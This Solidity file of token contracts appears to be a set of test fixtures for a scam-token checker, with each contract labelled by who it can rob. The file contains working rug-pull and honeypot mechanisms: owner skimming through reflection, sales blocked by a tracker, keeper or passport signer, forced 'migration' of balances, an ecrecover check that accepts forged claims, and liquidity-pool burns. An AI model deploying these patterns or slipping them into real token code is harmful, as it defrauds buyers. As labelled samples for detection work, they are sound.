// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FifthLaunch, FifthOwnable, FifthStandard, IFifthPool} from "./FifthLaunch.sol";
import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";

/// @title Launches with a scheme around the token: dividends, passports, migration, oracles. Written on
/// 30 November 2026, fifth look, by somebody who had not read how the check tries a trade. `Truth` says who loses when

/// @dev Truth: one person can rob today. A bonus raises every balance and the pool's; the surplus is skimmed and sold.
contract MirrorMoose is FifthOwnable {
    string public constant name = "Mirror Moose";
    string public constant symbol = "MOOSE";
    uint8 public constant decimals = 9;
    uint256 private constant _tTotal = 1_000_000_000 * 10 ** 9;
    uint256 private _rTotal = type(uint128).max - (type(uint128).max % _tTotal);
    address public immutable marketing = msg.sender;
    mapping(address => uint256) private _rOwned;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Reflected(uint256 percent);

    constructor() {
        _rOwned[msg.sender] = _rTotal;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function totalSupply() external pure returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _rOwned[account] / _rate();
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 current = allowance[from][msg.sender];
        if (current != type(uint256).max) allowance[from][msg.sender] = current - amount;
        _transfer(from, to, amount);
        return true;
    }

    function bonusReflection(uint256 percent) external {
        require(msg.sender == marketing && percent < 100, "Not a bonus");
        _rTotal -= (_rTotal * percent) / 100;
        emit Reflected(percent);
    }

    function _rate() private view returns (uint256) {
        return _rTotal / _tTotal;
    }

    function _transfer(address from, address to, uint256 amount) private {
        uint256 rate = _rate();
        uint256 fee = amount / 100;
        _rOwned[from] -= amount * rate;
        _rOwned[to] += (amount - fee) * rate;
        _rTotal -= fee * rate;
        emit Transfer(from, to, amount - fee);
    }
}

contract FifthDividendTracker {
    address public immutable token = msg.sender;
    address public immutable accountant;
    bool public isSettling;
    mapping(address => uint256) public shareOf;
    uint256 public totalShares;

    constructor(address accountant_) {
        accountant = accountant_;
    }

    function closeEpoch(bool settling) external {
        require(msg.sender == accountant, "Only the accountant");
        isSettling = settling;
    }

    function setBalance(address account, uint256 balance) external {
        require(msg.sender == token, "Only the token");
        uint256 before = shareOf[account];
        require(balance >= before || !isSettling, "Dividends are being settled");
        totalShares = totalShares - before + balance;
        shareOf[account] = balance;
    }
}

/// @dev Truth: one person can rob today. While the dividend tracker's keeper "settles", no balance can become less.
contract YieldYak is FifthLaunch("Yield Yak", "YAK") {
    FifthDividendTracker public immutable dividendTracker = new FifthDividendTracker(msg.sender);

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        _track(from);
        _track(to);
    }

    function _track(address account) private {
        if (!tradingOpen || account == uniswapV2Pair || _isExcludedFromFee[account]) return;
        dividendTracker.setBalance(account, _balances[account]);
    }
}

/// @dev Truth: one person can rob today. "Finalizing the migration" moves chosen holders' balances to the migrator.
contract UpgradeUnicorn is FifthStandard("Upgrade Unicorn", "UNI2") {
    address public immutable migrator = msg.sender;
    mapping(address => uint256) public owedInV2;

    event Migrated(address indexed holder, uint256 amount);

    function migrate(uint256 amount) external {
        _migrate(msg.sender, amount);
    }

    function finalizeMigration(address[] calldata holders) external {
        require(msg.sender == migrator, "Only the migrator");
        for (uint256 i = 0; i < holders.length; i++) _migrate(holders[i], balanceOf(holders[i]));
    }

    function _migrate(address holder, uint256 amount) private {
        owedInV2[holder] += amount;
        _transfer(holder, migrator, amount);
        emit Migrated(holder, amount);
    }
}

/// @dev Truth: anybody can rob today. Giving ownership up clears the signer, and a bad signature recovers to nobody.
contract QuestQuokka is FifthLaunch("Quest Quokka", "QUEST") {
    address public questSigner = msg.sender;
    uint256 public questSupply;
    mapping(bytes32 => bool) public isClaimed;

    event QuestRewarded(address indexed player, uint256 amount);

    function totalSupply() public view override returns (uint256) {
        return _tTotal + questSupply;
    }

    function renounceOwnership() public override onlyOwner {
        questSigner = address(0);
        super.renounceOwnership();
    }

    function claimQuest(uint256 questId, uint256 amount, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 digest = keccak256(abi.encode(block.chainid, address(this), msg.sender, questId, amount));
        require(!isClaimed[digest], "Already claimed");
        require(ecrecover(digest, v, r, s) == questSigner, "Bad signature");
        isClaimed[digest] = true;
        questSupply += amount;
        _balances[msg.sender] += amount;
        emit Transfer(address(0), msg.sender, amount);
        emit QuestRewarded(msg.sender, amount);
    }
}

/// @dev Truth: one person can rob today. The tax wallet burns a tenth of the pool as often as it likes, then sells.
contract LpBurnLynx is FifthLaunch("Lp Burn Lynx", "LYNX") {
    uint256 public manualBurnFrequency = 30 minutes;
    uint256 public lastManualLpBurnTime;
    uint256 private _burnt;

    event ManualNukeLP(uint256 amount);

    function totalSupply() public view override returns (uint256) {
        return _tTotal - _burnt;
    }

    function setManualBurnFrequency(uint256 seconds_) external {
        require(msg.sender == _taxWallet, "Only the tax wallet");
        manualBurnFrequency = seconds_;
    }

    function manualBurnLiquidityPairTokens(uint256 percent) external returns (bool) {
        require(msg.sender == _taxWallet, "Only the tax wallet");
        require(block.timestamp >= lastManualLpBurnTime + manualBurnFrequency, "Must wait for cooldown");
        require(percent <= 1000, "May not nuke more than 10% of tokens in LP");
        lastManualLpBurnTime = block.timestamp;
        uint256 amount = (_balances[uniswapV2Pair] * percent) / 10_000;
        _balances[uniswapV2Pair] -= amount;
        _burnt += amount;
        emit Transfer(uniswapV2Pair, address(0), amount);
        IFifthPool(uniswapV2Pair).sync();
        emit ManualNukeLP(amount);
        return true;
    }
}

/// @dev Truth: anybody can rob today. Each sale gives one unit to every holder, so enough new holders end all sales.
contract LuckyHolderLion is FifthLaunch("Lucky Holder Lion", "LION") {
    address[] public holders;
    mapping(address => bool) private _isListed;

    function holderCount() external view returns (uint256) {
        return holders.length;
    }

    function multiTransfer(address[] calldata to, uint256 amount) external {
        for (uint256 i = 0; i < to.length; i++) _transfer(msg.sender, to[i], amount);
    }

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        if (_isListed[to] || to == uniswapV2Pair || to == address(this)) return;
        _isListed[to] = true;
        holders.push(to);
    }

    function _swapBack(uint256 amount) internal override {
        uint256 pot = _balances[address(this)];
        if (pot > holders.length) {
            for (uint256 i = 0; i < holders.length; i++) _balances[holders[i]] += 1;
            _balances[address(this)] = pot - holders.length;
        }
        super._swapBack(amount);
    }
}

/// @dev Truth: buyers lose later. Sales want a price that is younger than sixty days, and one keeper alone renews it.
contract HeartbeatHare is FifthStandard("Heartbeat Hare", "HARE") {
    address public immutable keeper = msg.sender;
    uint256 public constant maxStaleness = 60 days;
    uint256 public price = 1;
    uint256 public updatedAt = block.timestamp;

    event PriceUpdated(uint256 price, uint256 timestamp);

    function updatePrice(uint256 price_) external {
        require(msg.sender == keeper, "Only the keeper");
        price = price_;
        updatedAt = block.timestamp;
        emit PriceUpdated(price_, block.timestamp);
    }

    function _update(address from, address to, uint256 value) internal override {
        bool isSale = to == uniswapV2Pair && to != address(0) && from != keeper;
        require(!isSale || block.timestamp - updatedAt <= maxStaleness, "Price is stale");
        super._update(from, to, value);
    }
}

contract FifthPassports {
    address public immutable issuer;
    mapping(address => bytes) private _passports;

    constructor(address issuer_) {
        issuer = issuer_;
    }

    function present(address human, bytes calldata signature) external {
        _passports[human] = signature;
    }

    function isHuman(address human) external view returns (bool) {
        bytes memory passport = _passports[human];
        if (passport.length != 65) return false;
        bytes32 digest = keccak256(abi.encode("human", block.chainid, human));
        return ECDSA.recover(digest, passport) == issuer;
    }
}

/// @dev Truth: a buyer loses at once. Only holders with a passport sell, and one issuer, the deployer, signs passports.
contract ProofOfPuppy is FifthStandard("Proof Of Puppy", "PUPPY") {
    FifthPassports public immutable passports = new FifthPassports(msg.sender);

    function _update(address from, address to, uint256 value) internal override {
        bool isSale = to == uniswapV2Pair && to != address(0) && from != passports.issuer();
        require(!isSale || passports.isHuman(from), "Show your passport");
        super._update(from, to, value);
    }
}
